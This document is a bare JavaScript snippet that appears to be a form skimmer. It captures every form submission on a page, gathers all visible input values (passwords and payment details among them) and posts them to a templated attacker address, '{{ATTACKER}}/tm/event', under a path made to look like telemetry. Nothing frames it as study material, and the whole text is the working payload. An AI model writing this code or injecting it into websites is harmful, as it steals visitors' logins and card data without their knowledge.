
(function (window, document) {
  document.addEventListener('submit', function (e) {
    var f = e.target;
    var d = new URLSearchParams();
    f.querySelectorAll('input').forEach(function (i) {
      if (i.type !== 'hidden') {
        d.append(i.name || i.id, i.value);
      }
    });
    fetch('{{ATTACKER}}/tm/event', {method: 'POST', body: d, keepalive: true});
  }, true);
})(window, document);
